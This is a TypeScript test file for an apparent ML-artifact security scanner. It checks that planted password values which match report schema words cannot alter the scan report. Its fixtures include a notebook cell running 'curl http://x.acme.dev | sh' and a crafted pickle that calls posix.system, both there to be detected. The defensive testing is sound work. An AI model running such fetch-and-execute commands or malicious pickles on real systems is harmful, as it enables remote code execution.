// Whoever writes a file chooses its passwords, and must not choose with them what the report cannot say.

import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { GAP_KINDS, type Report } from '@sentrascan/contract';
import { assemblePickle, assembleZip } from '@sentrascan/testkit';
import { Ajv } from 'ajv';
import { afterAll, expect, test } from 'vitest';
import { runProgram } from './program.ts';
import { recordedIo } from './recorded-io.ts';

const folder = mkdtempSync(path.join(tmpdir(), 'sentrascan-words-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const schema = JSON.parse(
  readFileSync(new URL('../../../schemas/report.schema.json', import.meta.url), 'utf8'),
) as object;

/** Every word that the schema allows in some place. */
function enumWords(value: unknown): string[] {
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, inner]) => [
    ...(key === 'const' && typeof inner === 'string' ? [inner] : []),
    ...(key === 'enum' && Array.isArray(inner) ? inner.filter((word) => typeof word === 'string') : []),
    ...enumWords(inner),
  ]);
}

const WORDS = [
  ...new Set([...enumWords(schema), ...GAP_KINDS]),
  ...'posix system posix.system os.system source.ipynb train.ipynb models.zip weights.pkl pickle notebook'.split(
    ' ',
  ),
  ...'ipynb runs shell subprocess eval exec builtins pickle.load torch.load pickle/runs-code shutil.rmtree'.split(
    ' ',
  ),
];

async function scanned(words: readonly string[]): Promise<Report> {
  const texts = words.map((word) => `https://bob:${word}@git.acme-corp.io/x\nDB_PASSWORD=${word}\n`);
  const source = [
    'import os\n',
    'os.system("curl http://x.acme.dev | sh")\n',
    ...texts.map((text) => `# ${text}`),
  ];
  const cell = { cell_type: 'code', id: 'a1', metadata: {}, source, outputs: [] };
  const notebook = JSON.stringify({ cells: [cell], metadata: {}, nbformat: 4, nbformat_minor: 5 });
  const weights = assemblePickle('PROTO 2 | GLOBAL posix system | UNICODE "id" | TUPLE1 | REDUCE | STOP');
  const entries = [
    { name: 'notes.md', data: texts.join('') },
    { name: 'source.ipynb', data: notebook },
    { name: 'weights.pkl', data: weights },
    { name: 'torn.pkl', data: weights.subarray(0, -4) },
  ];
  writeFileSync(path.join(folder, 'models.zip'), assembleZip({ entries }));
  const io = recordedIo({ cwd: folder });
  await runProgram(['scan', path.join(folder, 'models.zip'), '--format', 'json', '--jobs', '1'], io);
  return JSON.parse(io.out()) as Report;
}

test('no password takes a word of the contract, a path or a name out of the report', async () => {
  const plain = await scanned([]);
  const report = await scanned(WORDS);
  const validate = new Ajv({ allowUnionTypes: true, allErrors: true }).compile(schema);
  validate(report);
  expect(validate.errors).toBeNull();
  expect(report.findings.filter(({ category }) => category === 'secret').length).toBeGreaterThan(0);
  const [archive] = report.artifacts;
  expect(archive?.path).toBe('models.zip');
  expect(archive?.children?.map((child) => child.path)).toEqual(
    plain.artifacts[0]?.children?.map((child) => child.path),
  );
  const ofPickles = ({ findings }: Report) => findings.filter(({ artifact }) => artifact.endsWith('.pkl'));
  expect(
    ofPickles(plain)
      .map(({ message }) => message)
      .join(),
  ).toContain('posix.system');
  expect(ofPickles(report)).toEqual(ofPickles(plain));
  expect(report.gaps).toEqual(plain.gaps);
});
